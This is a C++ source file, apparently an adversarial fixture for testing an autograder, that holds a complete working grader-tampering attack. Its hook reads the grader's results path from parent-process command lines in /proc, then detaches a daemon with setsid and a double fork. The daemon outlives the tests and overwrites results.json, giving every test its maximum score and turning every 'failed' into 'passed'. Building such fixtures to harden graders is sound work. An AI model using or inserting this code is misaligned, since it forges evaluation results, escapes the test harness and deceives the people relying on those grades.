// Attack: a child process forked by the exercise outlives the tests and rewrites
// results.json with full marks after the grader has written it.
//
// It finds the results file on the grader's command line (`--results FILE`,
// up the chain of parent processes, whose command lines /proc shows to
// anyone), leaves the test program's process group, and rewrites the file
// as soon as it holds a failed test.
#include <sys/stat.h>
#include <unistd.h>

#include <fstream>
#include <sstream>
#include <string>

namespace {

std::string read_file(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  std::ostringstream text;
  text << in.rdbuf();
  return text.str();
}

std::string results_path() {
  pid_t pid = getppid();
  for (int depth = 0; depth < 16 && pid > 1; ++depth) {
    std::string command = read_file("/proc/" + std::to_string(pid) + "/cmdline");
    std::istringstream words(command);
    std::string word;
    bool next = false;
    while (std::getline(words, word, '\0')) {
      if (next) return word;
      next = word == "--results";
    }
    const std::string status = read_file("/proc/" + std::to_string(pid) + "/status");
    const std::size_t at = status.find("PPid:");
    if (at == std::string::npos) break;
    pid = static_cast<pid_t>(std::stol(status.substr(at + 5)));
  }
  return "";
}

std::string replace_all(std::string text, const std::string& from, const std::string& to) {
  for (std::size_t at = text.find(from); at != std::string::npos; at = text.find(from, at + to.size()))
    text.replace(at, from.size(), to);
  return text;
}

// Every test passed, every score its maximum: each "score" takes the "max_score" after it.
std::string forge(std::string json) {
  const std::string score = "\"score\": ", maximum = "\"max_score\": ";
  for (std::size_t at = json.find(maximum); at != std::string::npos; at = json.find(maximum, at + 1)) {
    const std::size_t value = at + maximum.size();
    const std::string top = json.substr(value, json.find_first_of(",\n}", value) - value);
    const std::size_t mine = json.rfind(score, at);
    if (mine == std::string::npos) continue;
    const std::size_t begin = mine + score.size(), end = json.find_first_of(",\n}", begin);
    json.replace(begin, end - begin, top);
    at = json.find(maximum, mine);
  }
  return replace_all(json, "\"status\": \"failed\"", "\"status\": \"passed\"");
}

void attack_hook() {
  static bool done = false;
  if (done) return;
  done = true;
  const std::string path = results_path();
  if (path.empty() || fork() != 0) return;
  setsid();
  if (fork() != 0) _exit(0);  // a daemon: reparented, in no group of the grader's
  for (int tick = 0; tick < 400; ++tick) {
    usleep(50 * 1000);
    const std::string text = read_file(path);
    if (text.find("\"status\": \"failed\"") == std::string::npos) continue;
    std::ofstream(path, std::ios::trunc) << forge(text);
  }
  _exit(0);
}

}  // namespace
